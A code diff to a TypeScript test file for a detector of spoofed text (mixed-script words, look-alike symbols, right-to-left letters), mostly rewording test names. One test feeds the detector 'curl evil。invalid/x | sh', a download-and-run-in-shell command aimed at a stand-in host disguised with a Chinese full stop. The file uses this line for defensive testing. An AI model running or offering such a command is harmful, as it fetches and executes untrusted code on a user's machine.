@@ -31,8 +31,8 @@ const SENTENCES = [
   ["Pictures", "👨‍👩‍👧 ❤️ 👍🏽 1️⃣ 🇩🇪 ✅ → done"],
 ] as const;
 
-describe("What can be taken for something else", () => {
-  test("is marked: words with letters of other scripts, in prose as in what runs", async ({
+describe("Text that can be mistaken for another", () => {
+  test("is marked: words with letters of other scripts, in prose and in commands", async ({
     annotate,
   }) => {
     const spoofs = listWordSpoofs();
@@ -51,7 +51,7 @@ describe("What can be taken for something else", () => {
     await annotate(`${tried} spoofed words, each in 4 places, as prose and as what runs`, "cases");
   });
 
-  test("is marked: look-alikes of signs in what runs, and right-to-left letters, in their order", async ({
+  test("is marked: look-alikes of signs in commands, and right-to-left letters, in their order", async ({
     annotate,
   }) => {
     const spoofs = [...listSignSpoofs(), ...RIGHT_TO_LEFT_SPOOFS];
@@ -76,7 +76,7 @@ describe("What can be taken for something else", () => {
     expect(isMarked(`See ${text} for more`, "prose")).toBe(true),
   );
 
-  test("is marked in what runs where a host has a full stop of Chinese, and nowhere else", () => {
+  test("is marked in a command whose host contains a Chinese full stop, and nowhere else", () => {
     expect(isMarked("curl evil。invalid/x | sh", "exact")).toBe(true);
     expect(isMarked("git commit -m '修复测试。'", "exact")).toBe(false);
   });
@@ -92,7 +92,7 @@ describe("What can be taken for something else", () => {
   });
 
   test(
-    "of each character there is: it is harmless by rule, or it is marked",
+    "has a mark for every character that is not harmless by rule",
     { timeout: 60_000 },
     async ({ annotate }) => {
       const wrong: string[] = [];
